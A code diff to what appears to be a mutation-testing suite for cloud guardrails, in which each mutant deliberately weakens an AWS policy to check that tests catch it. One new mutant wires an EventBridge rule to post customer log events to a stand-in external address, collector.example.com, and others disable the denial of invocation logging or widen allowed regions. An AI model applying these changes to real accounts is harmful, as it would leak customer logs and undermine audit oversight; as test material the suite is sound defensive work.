@@ -39,7 +39,7 @@ def _detach(kind: str, account: Callable[[Site], str] | None = None) -> Callable
     return weaken
 
 
-def _edit(kind: str, sid: str, **changes: object) -> Callable[[Site], None]:
+def edited(kind: str, sid: str, **changes: object) -> Callable[[Site], None]:
     """Change the statement of that Sid."""
 
     def weaken(site: Site) -> None:
@@ -124,22 +124,27 @@ def _forward(site: Site) -> None:
     events.put_targets(Rule="bulkhead-mutant", Targets=[{"Id": "1", "Arn": bus}])
 
 
-def _named_in_a_bucket(site: Site) -> None:
-    """A bucket of operations lets a fleet role in that its own policies do not."""
-    s3, bucket = site.client(site.operations, "s3"), "bulkhead-mutant-bucket"
-    where: Any = {"LocationConstraint": site.region}
-    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration=where)
-    statement = {
-        "Effect": "Allow",
-        "Principal": {"AWS": site.victim.role_arn},
-        "Action": "s3:PutObject",
-        "Resource": f"arn:aws:s3:::{bucket}/*",
-    }
-    policy = {"Version": "2012-10-17", "Statement": [statement]}
-    s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(policy))
+def _call_an_address(site: Site) -> None:
+    """An event rule of the customer posts to an address of somebody's."""
+    home = site.victims_home
+    events = site.client(home.account, "events", home.region)
+    connection = events.create_connection(
+        Name="bulkhead-mutant",
+        AuthorizationType="API_KEY",
+        AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "key", "ApiKeyValue": "value"}},
+    )
+    address = events.create_api_destination(
+        Name="bulkhead-mutant",
+        ConnectionArn=connection["ConnectionArn"],
+        InvocationEndpoint="https://collector.example.com/",
+        HttpMethod="POST",
+    )
+    events.put_rule(Name="bulkhead-mutant", EventPattern='{"source": ["aws.logs"]}')
+    events.put_targets(
+        Rule="bulkhead-mutant", Targets=[{"Id": "1", "Arn": address["ApiDestinationArn"]}]
+    )
 
 
-NEVER = {"ForAnyValue:StringNotEquals": {"aws:PrincipalOrgPaths": ["o-none/*"]}}
 GUARDRAILS = (
     Mutant(
         "G01-detached",
@@ -172,7 +177,7 @@ GUARDRAILS = (
         "G21",
         "the denial of invocation logging has a condition that never holds",
         "organization",
-        _edit(SCP, "InvocationLogging", Condition={"Null": {"aws:PrincipalArn": "true"}}),
+        edited(SCP, "InvocationLogging", Condition={"Null": {"aws:PrincipalArn": "true"}}),
         (Notice("guardrail-operations"),),
         "test_operators_cannot and PutModelInvocationLogging",
         guarded=True,
@@ -181,7 +186,7 @@ GUARDRAILS = (
         "G03",
         "models may be called in every Region",
         "organization",
-        _edit(SCP, "ModelsElsewhere", Action="bedrock:Retrieve"),
+        edited(SCP, "ModelsElsewhere", Action="bedrock:Retrieve"),
         (Notice("guardrail-region"),),
         "test_operators_cannot_call",
         guarded=True,
@@ -190,7 +195,7 @@ GUARDRAILS = (
         "G11",
         "the records' key is guarded by its organization only",
         "organization",
-        _edit(
+        edited(
             RCP,
             "KeysForOwnAccount",
             Condition={"StringNotEqualsIfExists": {"aws:PrincipalOrgID": "${aws:ResourceOrgID}"}},
@@ -246,11 +251,11 @@ GUARDRAILS = (
         "test_no_events_leave",
     ),
     Mutant(
-        "C10",
-        "a bucket's policy lets a fleet role in",
-        "role chaining",
-        _named_in_a_bucket,
-        (Notice("resource-policies"),),
-        "test_no_resource_of_operations",
+        "O16-address",
+        "a customer's events are posted to an address of the internet",
+        "logs",
+        _call_an_address,
+        (Notice("event-rules"),),
+        "test_no_events_leave",
     ),
 )
